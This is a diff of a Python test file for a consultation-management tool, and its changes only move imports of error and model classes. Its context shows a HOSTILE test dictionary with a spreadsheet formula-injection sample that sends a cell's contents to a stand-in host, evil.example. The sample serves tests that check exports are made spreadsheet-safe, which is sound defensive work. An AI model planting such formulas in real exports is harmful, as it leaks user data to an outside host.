@@ -13,12 +13,13 @@ import pytest
 from msf_desk.core import responses as r
 from msf_desk.core.contributions_import import import_contributions
 from msf_desk.core.contributions_import import template as contributions_template
-from msf_desk.core.errors import ImportFailed
+from msf_desk.model.errors import ImportFailed
 from msf_desk.core.member_import import import_members
 from msf_desk.core.members import list_members
 from msf_desk.core.tabular import FORMULA_NOTE, read_table, spreadsheet_safe, write_template
 from msf_desk.exports.responses import export_responses
 from msf_desk.store.responses import contributions_of
+from msf_desk.model.responses import Consultation, Contribution
 
 HOSTILE = {
     "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -48,11 +49,11 @@ def test_the_one_rule(value, written):
 
 @pytest.fixture
 def hostile_consultation(db):
-    cons = r.save_consultation(db, r.Consultation(
+    cons = r.save_consultation(db, Consultation(
         name="Formulas", stage="draft_plan", opens_on=dt.date(2026, 3, 2), closes_on=dt.date(2026, 3, 20),
         channels=["email"]))
     for n, (key, text) in enumerate(HOSTILE.items()):
-        r.add_contribution(db, r.Contribution(
+        r.add_contribution(db, Contribution(
             consultation_id=cons.id, received_on=dt.date(2026, 3, 3), contributor_name=f"{text} {key}",
             organisation=text, publish_name=True, text=text, theme=text, votes_for=n + 1, channel="email"))
     return cons
@@ -149,7 +150,7 @@ def test_a_control_character_in_a_workbook_is_refused(db, tmp_path):
 
 
 def test_a_control_character_in_a_contributions_import_is_refused(db, tmp_path):
-    cons = r.save_consultation(db, r.Consultation(name="C", stage="draft_plan", opens_on=dt.date(2026, 3, 2),
+    cons = r.save_consultation(db, Consultation(name="C", stage="draft_plan", opens_on=dt.date(2026, 3, 2),
                                                   closes_on=dt.date(2026, 3, 20), channels=["email"]))
     path = contributions_template(tmp_path / "contributions.csv")
     with open(path, "a", encoding="utf-8", newline="") as fh:
@@ -195,7 +196,7 @@ def test_a_file_neither_utf8_nor_windows_1252_is_refused(db, tmp_path):
 
 
 def test_a_mixed_contributions_file_is_refused_naming_the_row(db, tmp_path):
-    cons = r.save_consultation(db, r.Consultation(name="C", stage="draft_plan", opens_on=dt.date(2026, 3, 2),
+    cons = r.save_consultation(db, Consultation(name="C", stage="draft_plan", opens_on=dt.date(2026, 3, 2),
                                                   closes_on=dt.date(2026, 3, 20), channels=["email"]))
     path = tmp_path / "contributions.csv"
     path.write_bytes("received,contributor,text\n2026-03-04,Łucja,Więcej czasu\n".encode()
